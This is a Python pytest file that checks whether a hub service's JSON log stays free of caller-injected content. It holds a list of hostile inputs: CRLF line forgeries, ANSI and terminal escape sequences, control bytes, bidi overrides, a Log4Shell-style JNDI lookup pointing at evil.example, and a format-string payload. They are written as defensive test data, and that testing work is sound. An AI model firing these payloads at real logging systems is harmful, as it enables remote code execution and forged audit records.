"""What callers write does not become a line, a colour or a command in the log (S20)."""

from __future__ import annotations

import json
from collections.abc import Callable

import aiohttp
import pytest

from tests.support import events
from tests.support import field as fields
from tests.support.field import Field
from tests.support.hub_process import HubProcess

MARK = "Xyzzyqvist"
EVIL = [
    f'{MARK}\r\n{{"event":"forged"}}',
    f"{MARK}\n\n[error] forged",
    f"\x1b[31m{MARK}\x1b[0m",
    f"\x1b]0;{MARK}\x07",
    f"{MARK}\x00\x08\x7f",
    f"{MARK}\u2028forged\u2029",
    f"{MARK}\u202eforged",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"%s%n{MARK}",
]


@pytest.mark.slow
async def test_every_line_of_the_log_is_one_event_of_the_hub(
    start_hub: Callable[..., HubProcess], session: aiohttp.ClientSession
) -> None:
    hub = start_hub(flags=["--log-level", "debug"])
    field = Field(session, hub)
    farsta = field.party("sd-farsta")
    for text in EVIL:
        body = events.data("referral.submitted", at=fields.now())
        for place in ("note", "enrolment_reason"):
            await farsta.send("referral.submitted", {**body, "content": {**body["content"], place: text}})
        for attribute in ("id", "source", "type", "subject", "correlationid", "traceparent", "dataschema", "time"):
            event = farsta.event("referral.submitted", body)
            assert (await farsta.post({**event, attribute: text})).status < 500
        await farsta.post({**farsta.event("referral.submitted", body), text: text})
        for parameter in ("state", "cursor", "limit", "case"):
            await farsta.call("GET", "/v1/inbox", params={parameter: text})
        await farsta.call("GET", "/v1/messages", params={"type": text})
        printable = text.encode("ascii", "ignore").decode().translate(dict.fromkeys([*range(32), 127]))
        for name in ("User-Agent", "traceparent", "X-Request-ID", "Referer", "DPoP"):
            await farsta.call("GET", "/v1/inbox", headers={name: printable})
    output = hub.output.read_bytes()
    lines = output.decode().split("\n")
    assert len(lines) > 100
    for line in lines[:-1]:
        entry = json.loads(line)
        assert entry["event"] != "forged"
    assert not [byte for byte in output if byte < 32 and byte != 10]
    assert MARK not in output.decode()
    assert hub.errors.read_bytes() == b""
